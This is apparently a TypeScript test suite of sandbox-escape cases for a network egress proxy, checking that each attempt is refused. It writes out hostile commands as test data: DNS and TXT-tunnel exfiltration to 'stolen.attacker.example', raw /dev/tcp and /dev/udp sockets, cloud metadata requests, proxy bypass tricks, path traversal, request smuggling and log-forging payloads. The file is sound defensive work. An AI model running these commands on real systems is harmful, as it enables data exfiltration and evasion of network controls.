import { type EscapeCase, probe } from '../case.ts';
import { escaped, unclear } from '../error.ts';
import { type Field, grantedHost } from '../field.ts';
import type { Run } from '../run.ts';

const unreachable = [
  'ECONNREFUSED',
  'ENETUNREACH',
  'EACCES',
  'EPERM',
  'EPROTONOSUPPORT',
  'EINPROGRESS',
  'ENOSYS',
  'EHOSTUNREACH',
  'EADDRNOTAVAIL',
  'ESOCKTNOSUPPORT',
  'ETIMEDOUT',
  'EINVAL',
  'ENOPROTOOPT',
  'EOPNOTSUPP',
] as const;

/** A way that would have reached a sink: judged by the sink. */
function reaches(name: string, stop: string, attack: (field: Field) => string): EscapeCase {
  return {
    name,
    stop,
    attack: (field) => `echo tried; ${attack(field)}`,
    // Every case is judged by the sinks as well.
    judge: () => {},
  };
}

/** A request that the gateway must refuse, seen by the answer that the client got and by what the server did not get. */
export function refused(
  name: string,
  stop: string,
  statuses: readonly number[],
  attack: (field: Field) => string,
): EscapeCase {
  return {
    name,
    stop,
    attack: (field) => `echo tried; ${attack(field)}`,
    judge: (field, run) => {
      expectStatus(run, statuses);
      const leaked = field.granted.requests.filter(
        (request) => !request.target.startsWith('/open/') || request.method !== 'GET',
      );
      if (leaked.length > 0)
        throw escaped(`the server got ${leaked.map((request) => `${request.method} ${request.target}`).join(', ')}`);
    },
  };
}

export function expectStatus(run: Run, statuses: readonly number[]): void {
  const got = /^status (\d+)$/m.exec(run.stdout)?.[1];
  if (got === undefined) throw unclear(`no answer: ${run.stdout}${run.stderr}`);
  if (!statuses.includes(Number(got))) throw escaped(`the answer was ${got}, expected ${statuses.join(' or ')}`);
}

/**
 * A connection past the proxy. Where the sandbox captures, it stands and is refused in our words; elsewhere there is no
 * route. Either way nobody outside hears of it.
 */
function past(name: string, statuses: readonly number[], attack: string): EscapeCase {
  return {
    name,
    stop: 'network namespace, policy',
    attack: () => `echo tried; env -i PATH="$PATH" curl -s -m 10 -w '\\nstatus %{http_code}\\n' ${attack}`,
    judge: (_field, run) => {
      const status = Number(/^status (\d+)$/m.exec(run.stdout)?.[1]);
      if (Number.isNaN(status)) throw unclear(`no answer: ${run.stdout}${run.stderr}`);
      if (status === 0) return;
      if (!statuses.includes(status) || !run.stdout.includes('urn:cordon:problem:'))
        throw escaped(`somebody answered ${status}: ${run.stdout}`);
    },
  };
}

/** What came back, byte by byte; nothing at all is as good. */
function bytes(name: string, stop: string, attack: string, allowed: RegExp): EscapeCase {
  return {
    name,
    stop,
    attack: () => `echo tried; ${attack} 2>/dev/null | od -An -v -tx1 | tr -d ' \\n' | sed 's/^/bytes /'`,
    judge: (_field, run) => {
      const got = /^bytes ([0-9a-f]*)$/m.exec(run.stdout)?.[1] ?? '';
      if (got !== '' && !allowed.test(got)) throw escaped(`the answer was ${got}`);
    },
  };
}

/** TXT of `stolen.attacker.example` (RFC 1035). */
const txtQuery =
  '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06stolen\\x08attacker\\x07example\\x00\\x00\\x10\\x00\\x01';

export const curl = (args: string): string => `curl -s -S -m 10 -o /dev/null -w 'status %{http_code}\\n' ${args}`;
/** Bytes straight to the proxy's socket; the first status line of the answer. */
export const raw = (bytes: string): string =>
  `printf '${bytes}' | timeout 10 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -n 1 <&3' | sed -E 's#^HTTP/1.1 ([0-9]+).*#status \\1#'`;

export const egressCases: readonly EscapeCase[] = [
  probe('connect4', 'network namespace', unreachable, (field) => String(field.tcp.port)),
  probe('connect6', 'network namespace', unreachable, (field) => String(field.tcp6.port)),
  probe('connect-mapped', 'network namespace', unreachable, (field) => String(field.tcp.port)),
  probe('connect-mptcp', 'seccomp, network namespace', unreachable, (field) => String(field.tcp.port)),
  probe('connect-sctp', 'seccomp, network namespace', unreachable, (field) => String(field.tcp.port)),
  probe('fast-open', 'network namespace', unreachable, (field) => String(field.tcp.port)),
  probe('udp-public', 'network namespace', unreachable),
  reaches('UDP to the host’s loopback', 'network namespace', (field) => `./probe udp ${field.udp.port}`),
  reaches(
    'TCP with the proxy variables unset',
    'network namespace',
    (field) => `env -i /usr/bin/curl -s -m 3 http://127.0.0.1:${field.tcp.port}/`,
  ),
  reaches(
    'DNS for a name that carries data',
    'a name server that asks nobody',
    () => 'getent hosts stolen.attacker.example; bash -c "echo x > /dev/udp/127.0.0.1/53"',
  ),
  reaches(
    'CONNECT to the host’s loopback',
    'destination class',
    (field) => `curl -s -m 5 -p -x http://127.0.0.1:3128 http://127.0.0.1:${field.tcp.port}/`,
  ),
  reaches('an absolute URI to the host’s loopback', 'destination class', (field) =>
    curl(`-x http://127.0.0.1:3128 --noproxy '' http://127.0.0.1:${field.tcp.port}/`),
  ),
  reaches('an IPv6 literal', 'destination class', (field) =>
    curl(`-x http://127.0.0.1:3128 --noproxy '' 'http://[::1]:${field.tcp6.port}/'`),
  ),
  reaches('a decimal address', 'canonical host', (field) =>
    curl(`-x http://127.0.0.1:3128 --noproxy '' http://2130706433:${field.tcp.port}/`),
  ),
  reaches('a short address', 'canonical host', (field) =>
    curl(`-x http://127.0.0.1:3128 --noproxy '' http://127.1:${field.tcp.port}/`),
  ),
  past('a public address, past the proxy', [403], 'http://192.0.2.1/'),
  past('a public address by https, past the proxy', [403], '-k https://192.0.2.1/'),
  past('a public IPv6 address, past the proxy', [403], "-k 'https://[2001:db8::1]/'"),
  past('a mapped address, past the proxy', [400, 403], "'http://[::ffff:169.254.169.254]/'"),
  past('the metadata service, past the proxy', [403], 'http://169.254.169.254/latest/meta-data/'),
  past('another port of a public address, past the proxy', [403], 'http://192.0.2.1:8080/'),
  past(
    'a name without a grant at an address of its own choice',
    [403, 421],
    '-k --resolve other.example:443:192.0.2.1 https://other.example/',
  ),
  past(
    'the granted name at an address of its own choice',
    [403, 421],
    `-k --resolve ${grantedHost}:443:192.0.2.1 https://${grantedHost}/open/a`,
  ),
  past('DNS over HTTPS', [403, 421], '-k https://192.0.2.53/dns-query?dns=c3RvbGVu'),
  past('DNS over TLS', [400, 403, 421], '-k https://192.0.2.53:853/'),
  bytes(
    'DNS over TCP',
    'network namespace, policy',
    `timeout 5 bash -c 'exec 3<>/dev/tcp/192.0.2.53/53; printf "\\x00\\x29${txtQuery}" >&3; cat <&3'`,
    /^$/,
  ),
  bytes(
    'a TXT tunnel through the name server',
    'a name server that asks nobody',
    `timeout 5 bash -c 'exec 3<>/dev/udp/127.0.0.1/53; printf "${txtQuery}" >&3; head -c 12 <&3'`,
    /^12348185/,
  ),
  bytes(
    'a TXT tunnel through a resolver of its own choice',
    'network namespace',
    `timeout 5 bash -c 'exec 3<>/dev/udp/192.0.2.53/53; printf "${txtQuery}" >&3; timeout 2 head -c 12 <&3'`,
    /^$/,
  ),
  refused('a host without a grant', 'policy', [403], () => curl('https://other.example/')),
  refused('another method than granted', 'policy', [403], () => curl(`-X POST -d x https://${grantedHost}/open/a`)),
  refused('another path than granted', 'policy', [403], () => curl(`https://${grantedHost}/closed`)),
  refused('a path that climbs out of the granted one', 'one reading of the path', [400, 403], () =>
    curl(`--path-as-is https://${grantedHost}/open/../closed`),
  ),
  refused('an escaped path that climbs out', 'one reading of the path', [400, 403], () =>
    curl(`--path-as-is https://${grantedHost}/open/%2e%2e/closed`),
  ),
  refused('an escaped slash', 'one reading of the path', [400, 403], () =>
    curl(`--path-as-is https://${grantedHost}/open%2f..%2fclosed`),
  ),
  refused('a suffix of the granted host', 'policy', [403], () => curl(`https://evil-${grantedHost}/open/a`)),
  refused('the granted host as a prefix', 'policy', [403], () => curl(`https://${grantedHost}.evil.example/open/a`)),
  refused('another port of the granted host', 'policy', [403], () => curl(`https://${grantedHost}:8443/open/a`)),
  refused('a Host that differs from the target', 'agreement', [400, 403, 421], () =>
    curl(`-H 'Host: other.example' https://${grantedHost}/open/a`),
  ),
  refused('plain http where https is granted', 'policy', [403], () => curl(`http://${grantedHost}/open/a`)),
  refused('userinfo in the target', 'http head', [400], () =>
    raw('GET http://user@granted.example/open/a HTTP/1.1\\r\\nHost: granted.example\\r\\n\\r\\n'),
  ),
  refused('two Host headers', 'http head', [400], () =>
    raw('GET http://granted.example/open/a HTTP/1.1\\r\\nHost: granted.example\\r\\nHost: other.example\\r\\n\\r\\n'),
  ),
  refused('length and chunked together', 'http head', [400], () =>
    raw(
      'POST http://granted.example/open/a HTTP/1.1\\r\\nHost: granted.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n',
    ),
  ),
  refused('the metadata service', 'destination class', [403], () =>
    curl("--noproxy '' -x http://127.0.0.1:3128 http://169.254.169.254/latest/meta-data/"),
  ),
  refused('SNI that differs from CONNECT', 'agreement', [0, 400, 403, 421], () =>
    curl(`--connect-to other.example:443:${grantedHost}:443 https://other.example/open/a`),
  ),
  {
    name: 'what is granted works (or the cases above would prove nothing)',
    stop: 'nothing',
    attack: () => `echo tried; ${curl(`https://${grantedHost}/open/a`)}`,
    judge: (field, run) => {
      expectStatus(run, [200]);
      if (!field.granted.requests.some((request) => request.method === 'GET' && request.target === '/open/a'))
        throw escaped('the granted request did not arrive');
    },
  },
  {
    name: 'a refusal says what would allow it',
    stop: 'policy',
    attack: () => 'echo tried; curl -s -m 10 -X POST -d x https://other.example/upload',
    judge: (_field, run) => {
      for (const word of ['"code"', 'no-grant', '--allow other.example/upload:POST', 'cordon policy explain att_']) {
        if (!run.stdout.includes(word)) throw escaped(`the refusal lacks ${word}: ${run.stdout}`);
      }
    },
  },
  {
    name: 'log lines cannot be forged',
    stop: 'visible text',
    attack: () =>
      `echo tried; curl -s -m 10 -o /dev/null "https://other.example/x%0a2026-01-01T00:00:00Z%20allow%20GET" -H "$(printf 'X-A: \\033[2J')"`,
    judge: async (field) => {
      const { stdout } = await field.deployment.cordon(['logs']);
      if (stdout.includes('\u001b') || /^2026-01-01T00:00:00Z allow/m.test(stdout))
        throw escaped(`a log line was forged:\n${stdout}`);
    },
  },
];
